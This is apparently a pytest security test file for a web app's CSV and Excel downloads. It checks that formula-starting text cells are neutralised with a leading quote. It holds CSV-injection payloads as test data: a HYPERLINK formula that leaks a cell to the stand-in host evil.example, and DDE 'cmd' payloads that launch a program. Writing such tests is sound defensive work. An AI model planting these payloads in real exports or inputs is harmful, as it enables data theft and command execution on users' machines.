"""CSV and Excel downloads never carry a live formula (CSV injection): every text cell that a
spreadsheet would evaluate (``= + - @``, tab, CR first) starts with ``'``; numbers stay numbers.
The payloads come in the way an attacker would bring them: a failed login's username and
User-Agent, an imported grid name, a household address."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from gridmap.core.cells import FORMULA_STARTS, safe_cell, safe_row
from gridmap.storage.models import Grid, Household
from tests.security.conftest import A

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_a_formula_gets_a_quote(start):
    assert safe_cell(PAYLOADS[start]) == "'" + PAYLOADS[start]


def test_numbers_dates_and_plain_text_are_left_alone():
    import datetime as dt

    values = [-5, -1.5, 0, None, "", "东城区", "a=b", "'=already", dt.date(2026, 1, 1), True]
    assert safe_row(values) == values


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _xlsx_cells(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    return [c.value for c in cells]


def _assert_neutral(cells: Sequence[object], *payloads: str) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    assert [t for t in texts if t.startswith(FORMULA_STARTS)] == []
    for payload in payloads:
        assert "'" + payload in texts, payload


def test_a_failed_logins_username_and_user_agent_reach_audit_csv_as_text(anonymous, login_as):
    username, agent = '=hyperlink("http://e.example","x")', PAYLOADS["@"]  # names are lowercased
    anonymous.post(
        "/api/v1/auth/token",
        json={"username": username, "password": "wrong-password"},
        headers={"User-Agent": agent},
    )
    response = login_as("audit_admin").get("/api/v1/audit.csv")
    assert response.status_code == 200
    _assert_neutral(_csv_cells(response.get_data(as_text=True)), username, agent)


@pytest.fixture
def poisoned(session, world):
    """Grid names and an address of community A as an import could bring them."""
    names = {A: PAYLOADS["="], A + "02": PAYLOADS["@"], A + "02001": PAYLOADS["-"]}
    for code, name in names.items():
        session.execute(update(Grid).where(Grid.code == code).values(name=name))
    session.execute(update(Household).where(Household.id == 1).values(address=PAYLOADS["+"]))
    session.commit()
    return names


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_rates_downloads_hold_grid_names_as_text(login_as, poisoned, fmt):
    response = login_as("chief").get(f"/api/v1/rates.{fmt}?level=micro")
    assert response.status_code == 200
    body = response.get_data()
    cells = _xlsx_cells(body) if fmt == "xlsx" else _csv_cells(body.decode())
    _assert_neutral(cells, poisoned[A + "02001"])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_staffing_reports_hold_grid_names_as_text(login_as, poisoned, fmt):
    response = login_as("chief").get(f"/api/v1/reports/unstaffed.{fmt}?level=micro")
    assert response.status_code == 200, response.get_data(as_text=True)
    body = response.get_data()
    cells = _xlsx_cells(body) if fmt == "xlsx" else _csv_cells(body.decode())
    _assert_neutral(cells, poisoned[A + "02001"])


def test_the_households_csv_holds_addresses_as_text(login_as, poisoned):
    response = login_as("chief").get("/api/v1/households.csv")
    assert response.status_code == 200
    cells = _csv_cells(response.get_data(as_text=True))
    _assert_neutral(cells)
    assert any(c.startswith("'+cmd") for c in cells)


def test_the_review_workbook_holds_the_area_name_as_text(login_as, poisoned):
    response = login_as("chief").get("/api/v1/review/report.xlsx?month=2026-10")
    assert response.status_code == 200, response.get_data(as_text=True)
    _assert_neutral(_xlsx_cells(response.get_data()), poisoned[A])
